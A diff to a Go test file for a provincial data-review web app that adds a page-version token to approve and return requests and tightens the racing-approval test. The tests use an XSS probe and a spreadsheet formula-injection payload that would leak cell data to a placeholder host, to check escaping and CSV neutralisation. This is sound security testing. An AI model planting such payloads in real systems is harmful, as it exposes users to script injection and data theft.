@@ -158,7 +158,7 @@ func TestBoardAndReviewFlow(t *testing.T) {
 
 	// Return without a comment: refused, nothing written.
 	subA := latestOf(t, e, communeA)
-	r := prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "submission": {subA}, "comment": {"  "}}, nil)
+	r := prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}, "comment": {"  "}}, nil)
 	if r.status != http.StatusBadRequest || !strings.Contains(r.body, "Cần ghi ý kiến") {
 		t.Fatalf("return without comment: %d", r.status)
 	}
@@ -166,7 +166,7 @@ func TestBoardAndReviewFlow(t *testing.T) {
 		t.Fatalf("refused return wrote %+v", s)
 	}
 	comment := `Thôn 3: số hộ <script>alert(1)</script> gấp 10 lần năm trước`
-	r = prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "submission": {subA}, "comment": {comment}}, nil)
+	r = prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}, "comment": {comment}}, nil)
 	if r.status != http.StatusSeeOther {
 		t.Fatalf("return: %d %s", r.status, r.body)
 	}
@@ -188,11 +188,11 @@ func TestBoardAndReviewFlow(t *testing.T) {
 	if subA2 == subA {
 		t.Fatal("the new upload is not the latest")
 	}
-	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "submission": {subA}}, nil)
+	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}}, nil)
 	if r.status != http.StatusConflict {
 		t.Fatalf("approve a superseded upload: %d, want 409", r.status)
 	}
-	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "submission": {subA2}}, nil)
+	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA2}}, nil)
 	if r.status != http.StatusSeeOther {
 		t.Fatalf("approve: %d %s", r.status, r.body)
 	}
@@ -324,7 +324,8 @@ func TestProvinceCannotSeeAnotherProvince(t *testing.T) {
 }
 
 // TestRacingApprovalsOverHTTP: two reviewers approve the same file at
-// once; both see success, exactly one audit record exists.
+// once from the same page version: exactly one succeeds, the other is
+// told another reviewer acted (409); exactly one audit record exists.
 func TestRacingApprovalsOverHTTP(t *testing.T) {
 	e := newEnv(t)
 	a := e.client()
@@ -333,20 +334,21 @@ func TestRacingApprovalsOverHTTP(t *testing.T) {
 	sub := latestOf(t, e, communeA)
 	p1, p2 := e.client(), e.client()
 	c1, c2 := p1.signInProvince(provinceTN), p2.signInProvince(provinceTN)
+	s1, s2 := p1.seenOf(communeA), p2.seenOf(communeA)
 	var wg sync.WaitGroup
 	var r1, r2 resp
 	wg.Add(2)
 	go func() {
 		defer wg.Done()
-		r1 = p1.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c1}, "submission": {sub}}, nil)
+		r1 = p1.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c1}, "seen": {s1}, "submission": {sub}}, nil)
 	}()
 	go func() {
 		defer wg.Done()
-		r2 = p2.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c2}, "submission": {sub}}, nil)
+		r2 = p2.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c2}, "seen": {s2}, "submission": {sub}}, nil)
 	}()
 	wg.Wait()
-	if r1.status != http.StatusSeeOther || r2.status != http.StatusSeeOther {
-		t.Fatalf("racing approvals: %d, %d", r1.status, r2.status)
+	if (r1.status == http.StatusSeeOther) == (r2.status == http.StatusSeeOther) || r1.status+r2.status != http.StatusSeeOther+http.StatusConflict {
+		t.Fatalf("racing approvals: %d, %d; want one 303 and one 409", r1.status, r2.status)
 	}
 	h, _ := review.History(ctx(), e.lake, year, provinceTN, communeA)
 	if len(h) != 1 {
@@ -367,13 +369,14 @@ func TestUploadRacesApprovalOverHTTP(t *testing.T) {
 	p := e.client()
 	csrf := p.signInProvince(provinceTN)
 	second := goodFile(t, communeA, 4)
+	seen := p.seenOf(communeA)
 	e.clock.Add(time.Minute)
 	var wg sync.WaitGroup
 	var ra resp
 	wg.Add(2)
 	go func() {
 		defer wg.Done()
-		ra = p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "submission": {sub}}, nil)
+		ra = p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {seen}, "submission": {sub}}, nil)
 	}()
 	go func() { defer wg.Done(); a.upload(csrfA, "bao-cao-2.xlsx", second, nil, nil) }()
 	wg.Wait()
@@ -598,7 +601,7 @@ func TestBoardCSVNoFormulas(t *testing.T) {
 	p := e.client()
 	csrf := p.signInProvince(provinceTN)
 	evil := `=HYPERLINK("http://x.example/?"&A1,"bấm")`
-	if r := p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "submission": {latestOf(t, e, communeA)}, "comment": {evil}}, nil); r.status != http.StatusSeeOther {
+	if r := p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {latestOf(t, e, communeA)}, "comment": {evil}}, nil); r.status != http.StatusSeeOther {
 		t.Fatalf("return: %d", r.status)
 	}
 	c := p.get("/tinh/bang.csv")
@@ -635,11 +638,11 @@ func TestCommunePageReminder(t *testing.T) {
 	p := e.client()
 	csrf := p.signInProvince(provinceTN)
 	sub := latestOf(t, e, communeA)
-	p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "submission": {sub}, "comment": {"Thiếu thôn 4 & 5"}}, nil)
+	p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {sub}, "comment": {"Thiếu thôn 4 & 5"}}, nil)
 	if h := a.get("/").body; !strings.Contains(h, "Tỉnh đã TRẢ LẠI số liệu của xã để sửa.") || !strings.Contains(h, "Ý kiến của tỉnh: Thiếu thôn 4 &amp; 5") {
 		t.Error("reminder of a returned commune lacks the return or its comment")
 	}
-	p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "submission": {sub}}, nil)
+	p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {sub}}, nil)
 	if h := a.get("/").body; strings.Contains(h, `id="nhac-nho"`) {
 		t.Error("a reminder after approval")
 	}
